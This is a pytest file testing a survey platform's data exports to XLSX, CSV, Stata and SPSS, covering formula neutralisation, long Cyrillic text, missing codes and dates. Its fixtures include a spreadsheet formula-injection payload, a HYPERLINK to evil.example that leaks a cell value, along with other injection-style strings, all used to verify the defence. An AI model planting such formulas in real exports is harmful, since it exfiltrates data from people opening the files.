"""Exports that are safe and readable everywhere (issue 13, part 2): text cells never formulas, the
CSV for Excel neutralised, long Cyrillic texts whole in Stata (release 118, strL) and SPSS, missing
options declared, dates as dates, whole-number code formats, free text optional.

Read-backs by R's haven/readxl and by PSPP run where those programs are installed."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import subprocess
import zipfile

import openpyxl
import pandas as pd
import pyreadstat
import pytest
from django.utils import timezone

from analysis import exports, frames
from surveys.instruments import instrument_import
from surveys.models import Answer, Question, Response, Wave

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
LONG_RU = ("Съешь же ещё этих мягких французских булок, да выпей чаю. " * 60)[:3000]  # 3,000 characters
VERY_LONG_RU = ("Широкая электрификация южных губерний даст мощный толчок подъёму сельского хозяйства. " * 250)[:19000]

INSTRUMENT = {
    "code": "export-check", "title": {"en": "Export check", "ru": "Проверка экспорта"},
    "scales": [
        {"code": "ynr", "label": {"en": "Yes/no/refused", "ru": "Да/нет/отказ"}, "options": [
            {"code": 1, "label": {"en": "Yes", "ru": "Да"}},
            {"code": 2, "label": {"en": "No", "ru": "Нет"}},
            {"code": 8, "label": {"en": "Refused", "ru": "Отказ"}, "missing": True},
            {"code": 9, "label": {"en": "Don't know", "ru": "Не знаю"}, "missing": True}]},
        {"code": "many", "label": {"en": "Many", "ru": "Много"}, "options": [
            {"code": c, "label": {"en": f"Option {c}", "ru": f"Вариант {c}"}} for c in (1, 2, 12)]},
    ],
    "sections": [{"code": "s1", "title": {"en": "One", "ru": "Один"}, "questions": [
        {"code": "agree", "type": "single", "scale": "ynr", "text": {"en": "Agree?", "ru": "Согласны?"}},
        {"code": "pick", "type": "single", "scale": "many", "text": {"en": "Pick", "ru": "Выбор"}},
        {"code": "amount", "type": "number", "required": False, "text": {"en": "Amount", "ru": "Сумма"}},
        {"code": "when", "type": "date", "required": False, "text": {"en": "When", "ru": "Когда"}},
        {"code": "name", "type": "text", "required": False, "text": {"en": "Name", "ru": "Имя"}},
        {"code": "story", "type": "long_text", "required": False, "text": {"en": "Story", "ru": "Рассказ"}},
    ]}],
}
ROWS = [
    {"agree": 1, "pick": 12, "amount": -1.5, "when": "2024-01-02", "name": FORMULA, "story": LONG_RU},
    {"agree": 9, "pick": 1, "amount": 2.0, "when": "2023-12-31", "name": "-2+3", "story": VERY_LONG_RU},
    {"agree": 8, "pick": 2, "name": "@SUM(A1)", "story": "\tTab first\r\nthen _x0041_ & <b>"},
    {"agree": 2, "pick": 2, "amount": 10.0, "when": "2024-02-29", "name": "+7 999 123-45-67", "story": "Обычный ответ"},
]


@pytest.fixture
def wave(db):
    instrument = instrument_import(data=INSTRUMENT)
    wave = Wave.objects.create(instrument=instrument, title="Check", slug="check", status=Wave.Status.CLOSED)
    questions = {q.code: q for q in Question.objects.filter(instrument=instrument)}
    start = timezone.now().replace(microsecond=0) - dt.timedelta(days=1)
    for i, row in enumerate(ROWS):
        response = Response.objects.create(wave=wave, status=Response.Status.COMPLETED, language="ru",
                                           submitted_at=start + dt.timedelta(minutes=i))
        for code, value in row.items():
            Answer.objects.create(response=response, question=questions[code], value=value)
    return wave


def _r(script: str, tmp_path, **texts: str) -> str:
    """Run an R script; each of ``texts`` is in the R variable of its name (read from a UTF-8 file)."""
    if shutil.which("Rscript") is None:
        pytest.skip("R is not installed")
    check = subprocess.run(["Rscript", "-e", "library(haven); library(readxl)"], capture_output=True)
    if check.returncode:
        pytest.skip("R's haven or readxl is not installed")
    head = ""
    for name, text in texts.items():
        (tmp_path / f"{name}.txt").write_text(text, encoding="utf-8")
        head += f"{name} <- readChar('{tmp_path / (name + '.txt')}', 1e6, useBytes = TRUE); Encoding({name}) <- 'UTF-8'\n"
    (tmp_path / "script.R").write_text(head + script, encoding="utf-8")
    done = subprocess.run(["Rscript", str(tmp_path / "script.R")], capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr.decode("utf-8", "replace")
    return done.stdout.decode("utf-8")


# --- XLSX ---------------------------------------------------------------------------------------

def test_xlsx_text_is_a_string_cell_never_a_formula(wave, tmp_path):
    path = tmp_path / "d.xlsx"
    exports.write_data(wave, "xlsx", path)
    sheet = openpyxl.load_workbook(path)["data"]
    header = [c.value for c in sheet[1]]
    name = sheet.cell(row=2, column=header.index("name") + 1)
    assert name.value == FORMULA and name.data_type == "s"
    with zipfile.ZipFile(path) as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
    df = pd.read_excel(path, sheet_name="data")
    assert df["name"].tolist() == [FORMULA, "-2+3", "@SUM(A1)", "+7 999 123-45-67"]
    assert df["story"].tolist()[1] == VERY_LONG_RU and df["story"].tolist()[2] == "\tTab first\r\nthen _x0041_ & <b>"


def test_xlsx_numbers_codes_and_dates_have_their_types(wave, tmp_path):
    path = tmp_path / "d.xlsx"
    exports.write_data(wave, "xlsx", path)
    df = pd.read_excel(path, sheet_name="data")
    assert df["amount"].tolist()[:2] == [-1.5, 2.0] and df["agree"].tolist() == [1, 9, 8, 2]
    sheet = openpyxl.load_workbook(path)["data"]
    header = [c.value for c in sheet[1]]
    when = sheet.cell(row=2, column=header.index("when") + 1)
    assert when.is_date and when.value == dt.datetime(2024, 1, 2) and when.number_format == "yyyy\\-mm\\-dd"
    submitted = sheet.cell(row=2, column=header.index("submitted_at") + 1)
    assert submitted.is_date and "hh:mm:ss" in submitted.number_format
    first = Response.objects.filter(wave=wave).order_by("submitted_at").first()
    assert submitted.value == first.submitted_at.astimezone(dt.timezone.utc).replace(tzinfo=None)
    assert set(pd.read_excel(path, sheet_name=None)) == {"data", "codebook"}


def test_xlsx_read_by_readxl_keeps_the_formula_text(wave, tmp_path):
    path = tmp_path / "d.xlsx"
    exports.write_data(wave, "xlsx", path)
    out = _r(f"x <- readxl::read_excel('{path}', sheet = 'data'); cat(x$name[1], '\\n'); cat(class(x$when), '\\n');"
             f"cat(nchar(x$story[2]), '\\n')", tmp_path)
    assert out.splitlines()[0].strip() == FORMULA
    assert "POSIXct" in out.splitlines()[1] and out.splitlines()[2].strip() == "19000"


# --- CSV for Excel ------------------------------------------------------------------------------

def test_csv_for_excel_neutralises_formula_text_but_not_numbers(wave):
    text = "".join(exports.csv_rows(wave, bom=True))
    assert text.startswith("\ufeffresponse_id,")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [r["name"] for r in rows] == ["'" + FORMULA, "'-2+3", "'@SUM(A1)", "'+7 999 123-45-67"]
    assert rows[2]["story"].startswith("'\tTab first")
    assert rows[0]["amount"] == "-1.5" and rows[3]["story"] == "Обычный ответ"


def test_plain_csv_keeps_the_text_as_written(wave):
    rows = list(csv.DictReader(io.StringIO("".join(exports.csv_rows(wave)), newline="")))
    assert rows[0]["name"] == FORMULA and rows[1]["story"] == VERY_LONG_RU
    assert rows[2]["story"] == "\tTab first\r\nthen _x0041_ & <b>"


def test_the_codebook_says_what_the_csv_for_excel_does_and_which_variables_are_free_text(wave):
    book = exports.codebook(wave).set_index("variable")
    assert book.loc["name", "free_text"] == "yes" and book.loc["story", "free_text"] == "yes"
    assert book.loc["amount", "free_text"] == "no" and book.loc["agree", "free_text"] == "no"
    assert "apostrophe" in book.loc["name", "notes"] and "personal data" in book.loc["story", "notes"]
    assert book.loc["agree", "missing"] == "8 = Refused; 9 = Don't know"
    assert book.loc["agree", "stata_missing"] == "8 = .a; 9 = .b"
    data = json.loads(exports.codebook_json(wave))
    agree = next(v for v in data["variables"] if v["variable"] == "agree")
    assert agree["missing"] == [{"code": 8, "stata": ".a"}, {"code": 9, "stata": ".b"}]
    assert {v["variable"] for v in data["variables"] if v["free_text"]} == {"name", "story"}
    assert "csv_for_excel" in data["notes"]


# --- Stata --------------------------------------------------------------------------------------

def test_dta_is_release_118_with_long_text_as_strl(wave, tmp_path):
    path = tmp_path / "d.dta"
    exports.write_data(wave, "dta", path)
    head = path.read_bytes()[:80]
    assert b"<release>118</release>" in head
    df, meta = pyreadstat.read_dta(str(path))
    assert df["story"].tolist()[0] == LONG_RU and len(LONG_RU) == 3000
    assert df["story"].tolist()[1] == VERY_LONG_RU


def test_dta_long_cyrillic_text_read_by_haven(wave, tmp_path):
    path = tmp_path / "d.dta"
    exports.write_data(wave, "dta", path)
    out = _r(f"x <- haven::read_dta('{path}'); cat(nchar(x$story), sep = ','); cat('\\n');"
             f"cat(x$story[1] == long, '\\n'); cat(class(x$when), '\\n');"
             "cat(haven::na_tag(x$agree), sep = ','); cat('\\n')", tmp_path, long=LONG_RU)
    lines = out.splitlines()
    assert lines[0] == f"3000,19000,{len(ROWS[2]['story'])},13" and lines[1].strip() == "TRUE"
    assert lines[2].strip() == "Date" and lines[3] == "NA,b,a,NA"


def test_dta_missing_options_are_extended_missing_values_dates_are_dates(wave, tmp_path):
    path = tmp_path / "d.dta"
    exports.write_data(wave, "dta", path)
    df, meta = pyreadstat.read_dta(str(path), user_missing=True)
    assert df["agree"].tolist() == [1, "b", "a", 2]
    assert meta.missing_user_values["agree"] == ["a", "b"]
    assert meta.value_labels[meta.variable_to_label["agree"]] == {1: "Yes", 2: "No", "a": "Refused", "b": "Don't know"}
    assert meta.original_variable_types["when"] == "%td" and df["when"].tolist()[0] == dt.date(2024, 1, 2)
    assert meta.original_variable_types["agree"] == "%1.0f" and meta.original_variable_types["pick"] == "%2.0f"
    plain, _meta = pyreadstat.read_dta(str(path))
    assert pd.isna(plain["agree"].tolist()[1])


# --- SPSS ---------------------------------------------------------------------------------------

def test_sav_keeps_a_19000_character_cyrillic_answer(wave, tmp_path):
    path = tmp_path / "d.sav"
    exports.write_data(wave, "sav", path)
    df, meta = pyreadstat.read_sav(str(path))
    whole = (df["story"] + df["story__part2"]).tolist()
    assert whole[1] == VERY_LONG_RU and whole[0] == LONG_RU
    assert all(int(t[1:]) <= 32767 for c, t in meta.original_variable_types.items() if t.startswith("A"))
    assert dict(zip(meta.column_names, meta.column_labels))["story__part2"] == "Story (part 2)"


def test_sav_missing_values_formats_and_measures(wave, tmp_path):
    path = tmp_path / "d.sav"
    exports.write_data(wave, "sav", path)
    df, meta = pyreadstat.read_sav(str(path), user_missing=True)
    assert meta.missing_ranges["agree"] == [{"lo": 8.0, "hi": 8.0}, {"lo": 9.0, "hi": 9.0}]
    assert df["agree"].tolist() == [1, 9, 8, 2]
    assert meta.original_variable_types["agree"] == "F1.0" and meta.original_variable_types["pick"] == "F2.0"
    assert meta.original_variable_types["when"] == "SDATE10" and df["when"].tolist()[0] == dt.date(2024, 1, 2)
    assert meta.variable_measure["when"] == "scale" and meta.variable_measure["submitted_at"] == "scale"
    assert meta.variable_measure["amount"] == "scale" and meta.variable_measure["agree"] == "nominal"
    plain, _meta = pyreadstat.read_sav(str(path))
    assert pd.isna(plain["agree"].tolist()[1])


def test_sav_read_by_pspp_keeps_the_whole_text(wave, tmp_path):
    if shutil.which("pspp-convert") is None:
        pytest.skip("PSPP is not installed")
    path = tmp_path / "d.sav"
    exports.write_data(wave, "sav", path)
    out = tmp_path / "d.csv"
    subprocess.run(["pspp-convert", str(path), str(out)], check=True, capture_output=True, timeout=120)
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert rows[1]["story"] + rows[1]["story__part2"] == VERY_LONG_RU
    script = tmp_path / "d.sps"
    script.write_text(f"GET FILE='{path}'.\nDISPLAY DICTIONARY.\n", encoding="utf-8")
    listing = subprocess.run(["pspp", "-O", "format=txt", "-o", str(tmp_path / "out.txt"), str(script)],
                             capture_output=True, text=True, timeout=120)
    text = (tmp_path / "out.txt").read_text(encoding="utf-8")
    assert listing.returncode == 0, listing.stderr
    agree = " ".join(line for line in text.splitlines() if line.startswith("|agree "))
    assert "F1.0" in agree and "8; 9" in agree  # whole-number format, user-missing 8 and 9


def test_sav_read_by_haven(wave, tmp_path):
    path = tmp_path / "d.sav"
    exports.write_data(wave, "sav", path)
    out = _r(f"x <- haven::read_sav('{path}', user_na = TRUE); cat(paste0(x$story, x$story__part2)[2] == "
             f"long, '\\n'); cat(class(x$when), '\\n'); cat(attr(x$agree, 'na_values'))", tmp_path,
             long=VERY_LONG_RU)
    lines = out.splitlines()
    assert lines[0].strip() == "TRUE" and lines[1].strip() == "Date" and "8 9" in lines[2]


# --- free text ----------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", exports.DATA_FORMATS)
def test_every_data_file_without_free_text_has_none(wave, fmt):
    content = exports.data_bytes(wave, fmt, free_text=False)
    for text in ("HYPERLINK", "булок", "электрификация", "Обычный ответ"):
        assert text.encode() not in content, (fmt, text)
    with_text = exports.data_bytes(wave, fmt)
    assert "булок".encode() in with_text or fmt == "xlsx"  # XLSX is compressed
    if fmt == "xlsx":
        import tempfile, os
        with tempfile.TemporaryDirectory() as tmp:
            p = os.path.join(tmp, "x.xlsx")
            open(p, "wb").write(content)
            assert "story" not in pd.read_excel(p, sheet_name="data").columns


def test_csv_for_excel_without_free_text(wave):
    rows = list(csv.DictReader(io.StringIO("".join(exports.csv_rows(wave, bom=True, free_text=False))
                                           .removeprefix("\ufeff"), newline="")))
    assert "name" not in rows[0] and "story" not in rows[0] and rows[0]["amount"] == "-1.5"


def test_download_offers_data_with_or_without_free_text(wave, researcher_client):
    url = "/analysis/check/download/data.csv"
    from django.urls import reverse
    url = reverse("analysis:download", kwargs={"slug": "check", "name": "data", "fmt": "csv"})
    with_text = b"".join(researcher_client.get(url).streaming_content).decode()
    without = b"".join(researcher_client.get(url + "?free_text=0").streaming_content).decode()
    assert "булок" in with_text and "булок" not in without and ",story" not in without
    excel = b"".join(researcher_client.get(url + "?bom=1").streaming_content).decode()
    assert "'=HYPERLINK" in excel
    url = reverse("analysis:download", kwargs={"slug": "check", "name": "data", "fmt": "sav"})
    assert "булок".encode() not in researcher_client.get(url + "?free_text=0").content
    assert "булок".encode() in researcher_client.get(url).content


def test_stata_missing_letters_are_the_same_for_a_code_everywhere(wave):
    letters = exports.stata_missing_letters(frames.variables(wave.instrument))
    assert letters == {8: "a", 9: "b"}


@pytest.mark.parametrize("fmt", exports.DATA_FORMATS)
def test_a_wave_without_responses_exports_its_columns(db, fmt, tmp_path):
    instrument = instrument_import(data=INSTRUMENT)
    empty = Wave.objects.create(instrument=instrument, title="Empty", slug="empty", status=Wave.Status.CLOSED)
    path = tmp_path / f"e.{fmt}"
    exports.write_data(empty, fmt, path, free_text=False)
    if fmt == "sav":
        df, _meta = pyreadstat.read_sav(str(path))
    elif fmt == "dta":
        df, _meta = pyreadstat.read_dta(str(path))
    else:
        df = pd.read_csv(path) if fmt == "csv" else pd.read_excel(path, sheet_name="data")
    assert len(df) == 0 and "agree" in df.columns and "story" not in df.columns
